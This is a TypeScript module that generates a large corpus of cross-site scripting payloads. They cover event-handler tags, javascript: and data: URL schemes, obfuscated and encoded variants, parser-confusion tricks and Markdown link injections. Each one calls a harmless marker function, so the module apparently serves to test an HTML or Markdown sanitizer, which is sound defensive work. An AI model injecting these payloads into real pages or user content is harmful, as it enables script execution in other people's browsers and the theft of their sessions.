/**
 * Ways to make a page run what it should show. Each calls `hit()` in one way or another; `MARKS` are
 * for places where text is put into a page as Markdown.
 */
const CALL = "hit()";
const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin"];
const ELEMENTS = ["img src=x", "svg", "body", "input autofocus", "video src=x", "details open"];
const MORE = ["audio src=x", "iframe", "object data=x", "marquee", "select autofocus", "math"];
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  "\u0001javascript:",
];
const MORE_SCHEMES = ["&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "vbscript:"];
const DATA = ["data:text/html,<script>hit()</script>", "data:image/svg+xml,<svg onload=hit()>"];

function* payloads(): Generator<string> {
  for (const element of [...ELEMENTS, ...MORE]) {
    for (const event of EVENTS) {
      yield `<${element} ${event}=${CALL}>`;
      yield `"'><${element} ${event}="${CALL}">`;
    }
  }
  for (const scheme of [...SCHEMES, ...MORE_SCHEMES]) {
    yield `<a href="${scheme}${CALL}">x</a>`;
    yield `[x](${scheme}${CALL})`;
    yield `[x](<${scheme}${CALL}>)`;
    yield `![x](${scheme}${CALL})`;
    yield `<${scheme}${CALL}>`;
    yield `[x]: ${scheme}${CALL}\n\n[x]`;
  }
  for (const data of DATA) {
    yield `[x](${data})`;
    yield `<iframe src="${data}"></iframe>`;
    yield `<object data="${data}"></object>`;
  }
  yield* [
    `<script>${CALL}</script>`,
    `<ScRiPt >${CALL}</sCrIpT>`,
    `<script src=data:,${CALL}></script>`,
    `<scr<script>ipt>${CALL}</scr</script>ipt>`,
    `</textarea><script>${CALL}</script>`,
    `</title><script>${CALL}</script>`,
    `</template><script>${CALL}</script>`,
    `</style><script>${CALL}</script>`,
    `<!--><img src=x onerror=${CALL}>-->`,
    `<![CDATA[<img src=x onerror=${CALL}>]]>`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
    `<svg><style><img src=x onerror=${CALL}></style></svg>`,
    `<svg><script>${CALL}</script></svg>`,
    `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
    `<form action=javascript:${CALL}><button>x</button></form>`,
    `<button formaction=javascript:${CALL}>x</button>`,
    `<base href=javascript:/a/+${CALL}//>`,
    `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
    `<link rel=stylesheet href=javascript:${CALL}>`,
    `<style>@import 'javascript:${CALL}';</style>`,
    `<div style="background:url(javascript:${CALL})">x</div>`,
    `<img srcset="x 1x" onerror=${CALL}>`,
    `<img src=\`x\` onerror=${CALL}>`,
    `<img/src=x/onerror=${CALL}>`,
    `<img src=x:x onerror\n=\n${CALL}>`,
    `<<img src=x onerror=${CALL}>`,
    `<img src=x onerror=&#104;it()>`,
    `\`\`\`</code></pre><img src=x onerror=${CALL}>\n\`\`\``,
    `\`</code><img src=x onerror=${CALL}>\``,
    `||</span><img src=x onerror=${CALL}>||`,
    `**<img src=x onerror=${CALL}>**`,
    `[<img src=x onerror=${CALL}>](https://a.b)`,
    `[x](https://a.b "\\" onmouseover=${CALL} x=\\"")`,
    `[x](https://a.b/"onmouseover="${CALL})`,
    `https://a.b/"onmouseover="${CALL}`,
    `https://a.b/'onmouseover='${CALL}`,
    `https://a.b/<img src=x onerror=${CALL}>`,
    `<https://a.b/"onmouseover="${CALL}>`,
    `> <img src=x onerror=${CALL}>`,
    `- <img src=x onerror=${CALL}>`,
    `{{constructor.constructor('${CALL}')()}}`,
    `\${${CALL}}`,
    `';${CALL};//`,
    `";${CALL};//`,
    `\\u003cimg src=x onerror=${CALL}\\u003e`,
    `%3Cimg src=x onerror=${CALL}%3E`,
    `&lt;img src=x onerror=${CALL}&gt;`,
    `&#60;img src=x onerror=${CALL}&#62;`,
    `＜img src=x onerror=${CALL}＞`,
    `\u0000<img src=x onerror=${CALL}>`.slice(1),
    `<a href="https://a.b" onclick=${CALL}>x</a>`,
    `<a href="https://a.b" target=_self style=position:fixed;inset:0 onmouseover=${CALL}>x</a>`,
    `<span class=spoiler onclick=${CALL}>x</span>`,
    `<ol start="1" onfocus=${CALL} tabindex=1><li>x</li></ol>`,
  ];
}

export const PAYLOADS: readonly string[] = [...payloads()];
